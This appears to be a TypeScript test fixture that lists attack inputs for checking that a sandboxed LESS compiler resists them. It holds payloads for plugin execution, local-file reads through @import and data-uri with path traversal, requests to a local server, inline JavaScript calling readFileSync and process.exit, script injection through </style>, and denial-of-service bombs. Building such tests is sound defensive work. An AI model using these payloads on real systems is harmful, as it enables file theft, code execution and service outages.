import { type Attack, numbered } from './attack.ts'

/** Targets of LESS attacks. */
export interface LessTargets {
  /** Absolute path of a text file whose content must not leak. */
  readonly file: string
  /** Absolute path of an `@plugin` program that must not run. */
  readonly plugin: string
  /** URL of a local server that must not be reached: 'http://127.0.0.1:1234'. */
  readonly url: string
}

/** Content of the planted file: valid as LESS, as CSS and as an image URL. */
export const canaryText = '.canary-file-content{color:red}'

/** Sources that take endless time or memory, and try nothing else. */
const bombs: readonly string[] = [
  '.a(@n) when (@n > 0) { .b@{n} { c: d } .a(@n - 1) } .a(20000);',
  '.m() { .m(); .m(); } a { .m(); }',
  'a { each(range(200000), { .b@{value} { c: d } }) }',
  'a { b: replace("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "(a+)+$", "x", "g") }',
  `${Array.from({ length: 22 }, (_, level) => `.a${level} { .a${level + 1}; .a${level + 1}; }`).join(' ')} .a22 { b: c }`,
  `@a0: "xxxxxxxxxx"; ${Array.from({ length: 9 }, (_, level) => `@a${level + 1}: "${`@{a${level}}`.repeat(10)}";`).join(' ')} a { b: @a9 }`,
  'a{'.repeat(20_000),
  `a{b:${'('.repeat(60_000)}`,
  `a{b:${'~"'.repeat(30_000)}`,
  `${'.a,'.repeat(20_000)}.b{c:d}`,
  `${'a '.repeat(60_000)}{c:d}`,
  `.a{${'&:extend(.b all);'.repeat(3_000)}} ${'.b .b '.repeat(200)}{c:d}`,
  `${Array.from({ length: 12 }, () => '.a, .b').join('{')}{c:d${'}'.repeat(12)}`,
  '@a: @b; @b: @a; c { d: @a }',
  '@detached: { @detached(); }; @detached();',
  `@media ${'(a:b) and '.repeat(3_000)}(a:b){c{d:e}}`,
  `a{b:${'1+'.repeat(20_000)}1}`,
  `a{b:${'-'.repeat(60_000)}1}`,
  `a{b:pow(9, 99999999); c: (1/0); d: e("${'x'.repeat(50_000)}")}`,
  `/*${'*'.repeat(200_000)}`,
  `"${'\\'.repeat(200_000)}`,
  '@plugin'.repeat(20_000),
]

/** Unusual names and characters that could crash less. */
const oddities: readonly string[] = [
  `@arguments: __proto__; a { b: @arguments; c: @@arguments }`,
  `@__proto__: 1; @constructor: 2; a { b: @__proto__ @constructor }`,
  `.constructor() { a: b } .__proto__() { c: d } x { .constructor(); .__proto__(); }`,
  `a { b: constructor(); c: __proto__(); d: hasOwnProperty("a"); e: toString() }`,
  `@rules: { a: b }; c { @rules(); d: @rules[__proto__]; e: @rules[constructor] }`,
  `#ns { .m() { a: b } } c { d: #ns[__proto__]; e: #ns.m[constructor] }`,
  '\u0000@import (inline) "x";',
]

/** Whether a source only takes endless time or memory. */
export const isLessBomb = (source: string): boolean => bombs.includes(source)

/** LESS attacks on files, programs, servers and resources. */
export function lessAttacks({ file, plugin, url }: LessTargets): Attack[] {
  return numbered('LESS', [
    `@plugin "${plugin}"; a { b: canary() }`,
    `@plugin (optional) "${plugin}";`,
    `@plugin  "${plugin}";`,
    `@plugin\n"${plugin}";`,
    `@plugin/**/"${plugin}";`,
    `@PLUGIN "${plugin}";`,
    `a { @plugin "${plugin}"; b: canary() }`,
    `.m() { @plugin "${plugin}"; } a { .m(); }`,
    `@media print { @plugin "${plugin}"; }`,
    `@plugin "${url}/x.js";`,
    `@plugin "less-plugin-clean-css";`,
    `@import "${file}";`,
    `@import (inline) "${file}";`,
    `@import (less) "${file}";`,
    `@import (reference) "${file}"; a { .canary-file-content; }`,
    `@import (multiple, optional) "${file}";`,
    `@import (css) "${file}";`,
    `@import (css) url("${url}/x.css");`,
    `@import (inline) "${url}/x.css";`,
    `@import (less) "${url}/x.less";`,
    `@import "${url}/x";`,
    `@import url(${url}/x.css);`,
    `@import url("file://${file}");`,
    `@import (inline) "file://${file}";`,
    `@name: "${file}"; @import (inline) "@{name}";`,
    `@name: "${url}"; @import "@{name}/x.less";`,
    `@import (inline) "../../../../../../../../..${file}";`,
    `a { @import (inline) "${file}"; }`,
    `@media print { @import (inline) "${file}"; }`,
    `.m() { @import (inline) "${file}"; } .m();`,
    `@import-once "${file}"; @import-multiple "${file}";`,
    `a { b: data-uri("${file}") }`,
    `a { b: data-uri("text/plain", "${file}") }`,
    `a { b: data-uri("text/plain;base64", "${file}") }`,
    `a { b: DATA-URI("${file}") }`,
    `@f: "data-uri"; a { b: ~"@{f}('${file}')" }`,
    `a { b: image-size("${file}"); c: image-width("${file}"); d: image-height("${file}") }`,
    `a { b: svg-gradient(to right, red, url("${url}/x")) }`,
    `a { background: url("${url}/x.png") }`,
    `a { background: ~"url(${url}/x.png)" }`,
    `a { b: e("expression(1)"); width: ~"expression(1)" }`,
    `a { b: \`process.exit()\` }`,
    `a { b: ~\`require("fs").readFileSync("${file}")\` }`,
    `@x: \`1\`; a { b: @x }`,
    `@{x} { b: c } @x: "</style><script>";`,
    `@sel: ~"a{}</style><script>hit()</script>b"; @{sel} { c: d }`,
    `@prop: "behavior"; a { @{prop}: url(${url}/x.htc) }`,
    `a { color: ~"red}</style><script>hit()</script>{" }`,
    `a { b: "\\3c/style>"; content: "</style>" }`,
    `@charset "utf-7"; @namespace a url(${url});`,
    `@font-face { font-family: a; src: url(${url}/x.woff) }`,
    ...oddities,
    ...bombs,
  ])
}
